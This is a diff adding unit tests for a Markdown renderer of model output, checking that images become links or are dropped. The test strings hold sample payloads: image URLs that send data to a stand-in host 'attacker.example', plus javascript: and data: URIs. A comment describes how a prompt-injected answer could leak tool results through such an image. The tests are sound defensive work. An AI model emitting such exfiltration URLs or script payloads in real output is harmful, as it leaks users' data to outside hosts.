@@ -20,3 +20,30 @@ it("renders inline markup as elements and never passes HTML or unsafe links thro
   expect(html).not.toContain("javascript:");
   expect(html).not.toContain("<img");
 });
+
+it("shows a Markdown image from model output as a link, never as an <img> the browser would fetch", () => {
+  // A prompt-injected answer could put tool results into an image URL: an
+  // <img> would send them to that host as soon as the answer renders.
+  const html = renderToStaticMarkup(
+    <Markdown text={"Done ![secret report](https://attacker.example/p.png?d=uid-123) and ![][ref]\n\n[ref]: https://attacker.example/r.gif?d=2"} />,
+  );
+  expect(html).not.toContain("<img");
+  expect(html).toContain('href="https://attacker.example/p.png?d=uid-123"');
+  expect(html).toContain('href="https://attacker.example/r.gif?d=2"');
+  expect(html).toMatch(/<a [^>]*href="https:\/\/attacker\.example\/p\.png\?d=uid-123"[^>]*>[^<]*secret report[^<]*\(attacker\.example\)<\/a>/);
+});
+
+it("drops an image whose address is not http(s) or an app path, keeping its description as text", () => {
+  const html = renderToStaticMarkup(<Markdown text={"![chart](javascript:alert(1)) ![pixel](data:image/png;base64,AAAA)"} />);
+  expect(html).not.toContain("<img");
+  expect(html).not.toContain("javascript:");
+  expect(html).not.toContain("data:");
+  expect(html).toContain("chart");
+  expect(html).toContain("pixel");
+});
+
+it("survives an image address that only looks like a URL", () => {
+  const html = renderToStaticMarkup(<Markdown text={"![broken](https://)"} />);
+  expect(html).not.toContain("<img");
+  expect(html).toContain("broken");
+});
